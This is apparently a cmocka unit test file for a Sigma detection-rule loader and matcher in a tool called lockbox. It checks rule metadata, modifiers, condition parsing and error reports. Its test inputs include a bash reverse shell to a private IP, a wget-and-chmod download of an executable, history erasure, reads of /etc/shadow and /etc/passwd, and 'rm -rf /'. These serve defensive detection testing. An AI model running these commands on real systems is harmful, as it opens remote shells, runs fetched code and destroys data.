/* test_sigma.c — the Sigma rule loader and matcher: rule metadata (level, tags), each
 * modifier, each condition form, unsupported constructs reported with file:line:col while
 * the other rules load, and the findings lockbox adds to analyzed records. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lockbox/lockbox.h"
#include "lockbox/sigma.h"
#include "util/err.h"

#define HEAD "title: T\nlevel: medium\nlogsource:\n  product: linux\n  category: process_creation\n"

static sigma_set *
load(const char *text, buf *rep)
{
	sigma_set *s = sigma_new();
	assert_non_null(s);
	assert_int_equal(sigma_load_text(s, "t.yml", text, strlen(text), rep, 0), 0);
	return s;
}

/* Loads one rule that must be accepted. */
static sigma_set *
load_ok(const char *text)
{
	buf rep = BUF_INIT;
	sigma_set *s = load(text, &rep);
	if (rep.len)
		print_error("report: %s\n", buf_cstr(&rep));
	assert_int_equal(rep.len, 0);
	assert_int_equal(sigma_count(s), 1);
	buf_free(&rep);
	return s;
}

/* Does rule 0 match an event with this image (NULL: none) and command line? */
static int
m(const sigma_set *s, const char *image, const char *cmdline)
{
	sigma_str im = { image, image ? strlen(image) : 0 };
	sigma_str cl = { cmdline, strlen(cmdline) };
	sigma_event ev = { image ? &im : NULL, image ? 1 : 0, &cl, 1 };
	return sigma_rule_match(s, 0, &ev);
}

static void
test_metadata(void **state)
{
	(void)state;
	sigma_set *s = load_ok(
	    "title: Netcat listener\n"
	    "id: abc-1\n"
	    "description: nc listening\n"
	    "level: high\n"
	    "tags: [attack.command_and_control, attack.t1095, attack.T1059.004, attack.t1x, cve.2020]\n"
	    "logsource: {product: linux, category: process_creation}\n"
	    "detection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n");
	const sigma_info *i = sigma_rule_info(s, 0);
	assert_non_null(i);
	assert_string_equal(i->title, "Netcat listener");
	assert_string_equal(i->id, "abc-1");
	assert_string_equal(i->description, "nc listening");
	assert_int_equal(i->risk, LOCKBOX_RISK_HIGH);
	assert_int_equal(i->nattack, 1);  /* attack.T1059.004 is not lower-case: not a tag */
	assert_string_equal(i->attack[0], "T1095");
	assert_null(sigma_rule_info(s, 1));
	sigma_free(s);

	static const char *const lv[] = { "informational", "low", "medium", "high", "critical" };
	for (int k = 0; k < 5; k++) {
		char t[512];
		snprintf(t, sizeof(t), "title: L\nlevel: %s\nlogsource: {product: linux, category: "
		    "process_creation}\ndetection: {s: {Image: /x}, condition: s}\n", lv[k]);
		s = load_ok(t);
		assert_int_equal(sigma_rule_info(s, 0)->risk, k);
		sigma_free(s);
	}
	/* no id: the file name stands in */
	s = load_ok(HEAD "detection: {s: {Image: /x}, condition: s}\n");
	assert_string_equal(sigma_rule_info(s, 0)->id, "t.yml");
	sigma_free(s);
}

static void
test_modifiers(void **state)
{
	(void)state;
	sigma_set *s;

	/* plain: whole value, case-insensitive, * and ? wildcards */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine: 'rm -rf *'\n  condition: s\n");
	assert_true(m(s, NULL, "rm -rf /"));
	assert_true(m(s, NULL, "RM -RF /home"));
	assert_false(m(s, NULL, "sudo rm -rf /"));
	sigma_free(s);
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine: 'a?c'\n  condition: s\n");
	assert_true(m(s, NULL, "abc"));
	assert_false(m(s, NULL, "abbc"));
	sigma_free(s);
	/* escaped wildcard is literal */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|contains: 'x\\*y'\n  condition: s\n");
	assert_true(m(s, NULL, "echo x*y"));
	assert_false(m(s, NULL, "echo xzy"));
	sigma_free(s);
	/* contains */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|contains: '/etc/shadow'\n  condition: s\n");
	assert_true(m(s, NULL, "cat /ETC/shadow | head"));
	assert_false(m(s, NULL, "cat /etc/passwd"));
	sigma_free(s);
	/* startswith / endswith */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|startswith: 'sudo '\n  condition: s\n");
	assert_true(m(s, NULL, "sudo id"));
	assert_false(m(s, NULL, "echo sudo id"));
	sigma_free(s);
	s = load_ok(HEAD "detection:\n  s:\n    Image|endswith: '/curl'\n  condition: s\n");
	assert_true(m(s, "/usr/bin/curl", "curl x"));
	assert_false(m(s, "/usr/bin/curlx", "curlx"));
	assert_false(m(s, NULL, "curl x"));  /* no image: absent field matches nothing */
	sigma_free(s);
	/* list: one of; |all: every one */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|contains: [aaa, bbb]\n  condition: s\n");
	assert_true(m(s, NULL, "x bbb"));
	assert_false(m(s, NULL, "x ccc"));
	sigma_free(s);
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|contains|all: [aaa, bbb]\n"
	    "  condition: s\n");
	assert_true(m(s, NULL, "bbb aaa"));
	assert_false(m(s, NULL, "x bbb"));
	sigma_free(s);
	/* re: POSIX ERE, case-sensitive */
	s = load_ok(HEAD "detection:\n  s:\n    CommandLine|re: '^nc +-[a-z]*l'\n  condition: s\n");
	assert_true(m(s, NULL, "nc -lvp 4444"));
	assert_false(m(s, NULL, "NC -lvp 4444"));
	assert_false(m(s, NULL, "echo nc -l"));
	sigma_free(s);
	/* several fields: all must hold; a list of maps: one must */
	s = load_ok(HEAD "detection:\n  s:\n    Image|endswith: /tar\n    CommandLine|contains: "
	    "--to-command\n  condition: s\n");
	assert_true(m(s, "/bin/tar", "tar xf a --to-command=sh"));
	assert_false(m(s, "/bin/tar", "tar xf a"));
	assert_false(m(s, "/bin/cpio", "cpio --to-command"));
	sigma_free(s);
	s = load_ok(HEAD "detection:\n  s:\n    - Image|endswith: /awk\n    - CommandLine|contains: "
	    "zzz\n  condition: s\n");
	assert_true(m(s, "/usr/bin/awk", "awk 1"));
	assert_true(m(s, "/bin/ls", "ls zzz"));
	assert_false(m(s, "/bin/ls", "ls"));
	sigma_free(s);
	/* keywords: a list of strings, each a CommandLine substring */
	s = load_ok(HEAD "detection:\n  k:\n    - 'base64 -d'\n    - xxd\n  condition: k\n");
	assert_true(m(s, NULL, "echo aGk= | BASE64 -d"));
	assert_false(m(s, NULL, "echo hi"));
	sigma_free(s);
}

static const char *
cond_rule(const char *cond)
{
	static char t[1024];
	snprintf(t, sizeof(t), HEAD "detection:\n  sel_a:\n    CommandLine|contains: aaa\n"
	    "  sel_b:\n    CommandLine|contains: bbb\n  filter:\n    CommandLine|contains: ccc\n"
	    "  _hidden:\n    CommandLine|contains: zzz\n  condition: %s\n", cond);
	return t;
}

static void
test_conditions(void **state)
{
	(void)state;
	static const struct {
		const char *cond;
		const char *in;
		int want;
	} cases[] = {
		{ "sel_a and sel_b", "aaa bbb", 1 },
		{ "sel_a and sel_b", "aaa", 0 },
		{ "sel_a or sel_b", "bbb", 1 },
		{ "sel_a or sel_b", "ccc", 0 },
		{ "sel_a and not filter", "aaa", 1 },
		{ "sel_a and not filter", "aaa ccc", 0 },
		{ "not not sel_a", "aaa", 1 },
		{ "(sel_a or sel_b) and not filter", "bbb", 1 },
		{ "(sel_a or sel_b) and not filter", "bbb ccc", 0 },
		{ "sel_a or sel_b and filter", "aaa", 1 },   /* and binds tighter */
		{ "(sel_a or sel_b) and filter", "aaa", 0 },
		{ "1 of sel_*", "bbb", 1 },
		{ "1 of sel_*", "ccc", 0 },
		{ "any of sel_*", "aaa", 1 },
		{ "all of sel_*", "aaa", 0 },
		{ "all of sel_*", "bbb aaa", 1 },
		{ "1 of them", "ccc", 1 },
		{ "1 of them", "zzz", 0 },   /* them leaves out _names */
		{ "all of them", "aaa bbb ccc", 1 },
		{ "all of them", "aaa bbb", 0 },
		{ "all of sel_* and not 1 of filter*", "aaa bbb", 1 },
		{ "all of sel_* and not 1 of filter*", "aaa bbb ccc", 0 },
		{ "_hidden", "zzz", 1 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		sigma_set *s = load_ok(cond_rule(cases[i].cond));
		if (m(s, NULL, cases[i].in) != cases[i].want)
			fail_msg("condition '%s' on '%s': expected %d", cases[i].cond, cases[i].in,
			    cases[i].want);
		sigma_free(s);
	}
	/* a list of conditions: any of them */
	sigma_set *s = load_ok(HEAD "detection:\n  a: {CommandLine|contains: aaa}\n"
	    "  b: {CommandLine|contains: bbb}\n  condition:\n    - a\n    - b\n");
	assert_true(m(s, NULL, "bbb"));
	assert_false(m(s, NULL, "ccc"));
	sigma_free(s);
}

/* Loads text that must be refused with a report matching all of want[] (substrings). */
static void
refused(const char *text, const char *want1, const char *want2)
{
	buf rep = BUF_INIT;
	sigma_set *s = load(text, &rep);
	const char *r = buf_cstr(&rep);
	if (sigma_count(s) != 0 || !strstr(r, want1) || (want2 && !strstr(r, want2)))
		fail_msg("expected refusal with '%s' / '%s', got %zu rules, report: %s", want1,
		    want2 ? want2 : "", sigma_count(s), r);
	sigma_free(s);
	buf_free(&rep);
}

static void
test_unsupported(void **state)
{
	(void)state;
	refused(HEAD "detection:\n  s:\n    ParentImage|endswith: /nginx\n  condition: s\n",
	    "t.yml:8:5: rule 'T': unsupported: field ParentImage", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|base64offset|contains: x\n  condition: s\n",
	    "t.yml:8:5:", "modifier base64offset");
	refused(HEAD "detection:\n  s:\n    CommandLine|contains|endswith: x\n  condition: s\n",
	    "more than one of", NULL);
	refused("title: T\nlevel: low\nlogsource: {product: windows, category: process_creation}\n"
	    "detection: {s: {Image: x}, condition: s}\n", "t.yml:3:12:", "logsource windows/");
	refused("title: T\nlevel: low\nlogsource: {product: linux, category: process_creation, "
	    "service: auditd}\ndetection: {s: {Image: x}, condition: s}\n", "service auditd", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: s | count() > 5\n",
	    "t.yml:9:14:", "aggregations");
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: s and nosuch\n",
	    "no selection of that name at 'nosuch'", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: 1 of zz*\n",
	    "no selection matches at 'zz*'", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: (s\n", "expected ')'", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: s*\n", "needs '1 of'", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: s s\n", "unexpected word", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  condition: 2 of s\n", "at '2'", NULL);
	refused(HEAD "detection:\n  s:\n    Image:\n  condition: s\n", "null values", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: '\\d+'\n  condition: s\n",
	    "\\d is PCRE", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: '(?i)x'\n  condition: s\n", "PCRE", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: '(a)\\1'\n  condition: s\n",
	    "back-references", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: 'a+++b'\n  condition: s\n",
	    "stacked quantifiers", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: '((a{50}){50}){50}'\n  condition: s\n",
	    "expand too much", NULL);
	refused(HEAD "detection:\n  s:\n    CommandLine|re: 'a[b'\n  condition: s\n",
	    "not a valid POSIX extended regex", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n  timeframe: 5m\n  condition: s\n",
	    "timeframe", NULL);
	refused(HEAD "detection:\n  s:\n    Image: x\n", "no condition", NULL);
	refused("title: T\nlogsource: {product: linux, category: process_creation}\n"
	    "detection: {s: {Image: x}, condition: s}\n", "no level", NULL);
	refused("title: T\nlevel: severe\nlogsource: {product: linux, category: process_creation}\n"
	    "detection: {s: {Image: x}, condition: s}\n", "level severe", NULL);
	refused("level: low\n", "no title", NULL);
	refused("- a\n- b\n", "a rule must be a YAML mapping", NULL);
	refused("title: [unclosed\n", "t.yml:2:1: invalid YAML", NULL);
	refused("action: global\ntitle: G\n", "rule collections", NULL);
	refused(HEAD "detection:\n  s: [ {Image: x}, y ]\n  condition: s\n", "mixes maps", NULL);

	/* several problems of one rule are all reported; the next rule still loads */
	buf rep = BUF_INIT;
	sigma_set *s = load(HEAD "detection:\n  s:\n    User: root\n    Image|windash: x\n"
	    "  condition: s\n---\n" HEAD "detection:\n  s:\n    Image: /bin/id\n  condition: s\n",
	    &rep);
	assert_int_equal(sigma_count(s), 1);
	assert_non_null(strstr(buf_cstr(&rep), "t.yml:8:5: rule 'T': unsupported: field User"));
	assert_non_null(strstr(buf_cstr(&rep), "t.yml:9:5: rule 'T': unsupported: modifier windash"));
	assert_true(m(s, "/bin/id", "id"));
	sigma_free(s);
	buf_free(&rep);

	/* the verbose report lists what loaded */
	rep = (buf)BUF_INIT;
	s = sigma_new();
	const char *ok = HEAD "detection: {s: {Image: x}, condition: s}\n";
	assert_int_equal(sigma_load_text(s, "v.yml", ok, strlen(ok), &rep, 1), 0);
	assert_string_equal(buf_cstr(&rep), "v.yml: loaded: T (medium)\n");
	sigma_free(s);
	buf_free(&rep);

	/* a directory that cannot be read */
	rep = (buf)BUF_INIT;
	s = sigma_new();
	assert_int_equal(sigma_load_dir(s, "tests/fixtures/no-such-dir", &rep, 0), ESC_ENOENT);
	assert_non_null(strstr(buf_cstr(&rep), "no-such-dir"));
	sigma_free(s);
	buf_free(&rep);
}

static int
has_finding(const char *json, const char *id)
{
	char pat[128];
	snprintf(pat, sizeof(pat), "\"id\":\"%s\"", id);
	return strstr(json, pat) != NULL;
}

static void
test_lockbox(void **state)
{
	(void)state;
	lockbox *lb = NULL;
	buf err = BUF_INIT, rep = BUF_INIT, js = BUF_INIT;
	lockbox_result *r = NULL;

	assert_int_equal(lockbox_load(&lb, "tests/fixtures/rules", NULL, &err), 0);
	assert_int_equal(lockbox_load_sigma(lb, "rules/sigma", &rep, 0), 0);
	if (rep.len)
		print_error("report: %s\n", buf_cstr(&rep));
	assert_int_equal(rep.len, 0);
	assert_true(lockbox_sigma_count(lb) >= 4);
	assert_int_equal(lockbox_load_sigma(lb, "tests/fixtures/sigma", &rep, 0), 0);
	assert_non_null(strstr(buf_cstr(&rep), "proc_unsupported_parent.yml:12:9:"));

	static const struct {
		const char *cmd;
		const char *id;
		int want;
		const char *attack;
	} cases[] = {
		/* Image from a bare name is matched where PATH would find it (/usr/bin/cat) */
		{ "cat /etc/passwd", "sigma:5f0d3b8e-escort-0004", 1, "T1087.001" },
		{ "ls /etc/passwd", "sigma:5f0d3b8e-escort-0004", 0, NULL },
		/* a command in a pipeline: its own image, the record's command line */
		{ "true && /bin/cat /etc/group | wc -l", "sigma:5f0d3b8e-escort-0004", 1, NULL },
		{ "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sigma:5f0d3b8e-escort-0001", 1,
		  "T1059.004" },
		{ "unset HISTFILE; id", "sigma:5f0d3b8e-escort-0002", 1, "T1070.003" },
		{ "wget -q http://h/x -O /tmp/x; chmod +x /tmp/x", "sigma:5f0d3b8e-escort-0003", 1,
		  "T1105" },
		{ "wget -q http://h/x -O /srv/x; chmod +x /srv/x", "sigma:5f0d3b8e-escort-0003", 0,
		  NULL },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		js.len = 0;
		assert_int_equal(lockbox_analyze(lb, cases[i].cmd, strlen(cases[i].cmd), "bash", &r),
		    0);
		assert_int_equal(lockbox_result_json(r, &js), 0);
		if (has_finding(buf_cstr(&js), cases[i].id) != cases[i].want)
			fail_msg("%s: expected %s %s: %s", cases[i].cmd, cases[i].id,
			    cases[i].want ? "present" : "absent", buf_cstr(&js));
		if (cases[i].attack)
			assert_non_null(strstr(buf_cstr(&js), cases[i].attack));
		if (cases[i].want && strstr(cases[i].id, "0001"))
			assert_int_equal(lockbox_result_risk(r), LOCKBOX_RISK_CRITICAL);
		lockbox_result_free(r);
		r = NULL;
	}
	lockbox_free(lb);
	buf_free(&err);
	buf_free(&rep);
	buf_free(&js);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_modifiers),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_unsupported),
		cmocka_unit_test(test_lockbox),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
